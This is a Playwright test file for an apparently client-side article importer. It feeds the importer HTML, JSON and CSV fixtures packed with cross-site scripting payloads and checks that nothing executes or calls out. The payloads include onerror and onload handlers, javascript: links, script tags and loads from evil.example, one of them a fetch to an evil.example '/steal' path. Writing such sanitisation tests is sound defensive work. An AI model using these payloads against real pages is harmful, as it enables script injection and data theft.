import { test, expect, type Request } from '@playwright/test';
import { dropFiles, waitForReport } from './helpers';

const HOSTILE_HTML = `<!doctype html><html><head><title>قال لافروف <img src=x onerror="window.__pwned=1"></title>
<meta property="article:published_time" content="2016-10-11">
<style>body{background:url(https://evil.example/bg.png)}</style>
<link rel="stylesheet" href="https://evil.example/x.css"><script src="https://evil.example/x.js"></script>
<script>window.__pwned = 1; fetch('https://evil.example/steal')</script></head>
<body onload="window.__pwned=1"><p>قال وزير الخارجية الروسي سيرغي لافروف إن موسكو تدعم الحوار في سوريا &lt;script&gt;window.__pwned=1&lt;/script&gt;.</p>
<p><a href="javascript:window.__pwned=1">اضغط هنا</a> <img src="https://evil.example/pixel.gif" onerror="window.__pwned=1">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>
<svg onload="window.__pwned=1"><image href="https://evil.example/i.png"/></svg></p></body></html>`;

const HOSTILE_JSON = JSON.stringify([
  {
    title: '<img src=x onerror="window.__pwned=1">بوتين: <b>نعم</b>',
    text: 'قال الرئيس الروسي فلاديمير بوتين إن <script>window.__pwned=1</script> روسيا تدعم سوريا. <a href="javascript:alert(1)">x</a> <img src="https://evil.example/a.png">',
    url: 'javascript:window.__pwned=1',
    source: '<svg onload="window.__pwned=1">',
  },
]);

const HOSTILE_CSV =
  'title,text,url\n"<script>window.__pwned=1</script>","قالت ماريا زاخاروفا إن ""<img src=https://evil.example/c.png onerror=window.__pwned=1>"" موسكو تدعم سوريا.\nسطر ثان <style>*{background:url(https://evil.example/s.png)}</style>",https://evil.example/page\n';

test('hostile HTML, JSON and CSV files show as text and trigger no request and no script', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const requests: Request[] = [];
  page.on('request', (r) => requests.push(r));
  const dialogs: string[] = [];
  page.on('dialog', (d) => (dialogs.push(d.message()), d.dismiss()));

  await page.goto('./');
  await dropFiles(page, [
    { name: 'evil.html', mimeType: 'text/html', buffer: Buffer.from(HOSTILE_HTML) },
    { name: 'evil.json', mimeType: 'application/json', buffer: Buffer.from(HOSTILE_JSON) },
    { name: 'evil.csv', mimeType: 'text/csv', buffer: Buffer.from(HOSTILE_CSV) },
  ]);
  await waitForReport(page);
  await expect(page.getByTestId('report').locator('li[data-status="added"]')).toHaveCount(3);

  // Open each article and search: the markup is shown as inert text, if at all.
  const rows = page.getByTestId('article-row');
  await expect(rows).toHaveCount(3);
  for (let i = 0; i < 3; i++) {
    await rows.nth(i).click();
    await expect(page.getByTestId('reader-body')).toBeVisible();
    const toggle = page.getByTestId('toggle-removed');
    if ((await toggle.count()) > 0) await toggle.click();
    await page.goBack();
  }
  await page.getByTestId('search-input').fill('سوريا');
  await expect(page.getByTestId('results')).toHaveAttribute('data-query', 'سوريا');

  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  // No element from the files made it into the page as markup.
  expect(await page.locator('main img, main iframe, main object, main script, main svg image, main a[href^="javascript"]').count()).toBe(0);
  const foreign = requests.filter((r) => !r.url().startsWith(origin) && !r.url().startsWith('blob:') && !r.url().startsWith('data:'));
  expect(foreign.map((r) => r.url())).toEqual([]);
  expect(requests.filter((r) => r.method() !== 'GET').map((r) => `${r.method()} ${r.url()}`)).toEqual([]);
});
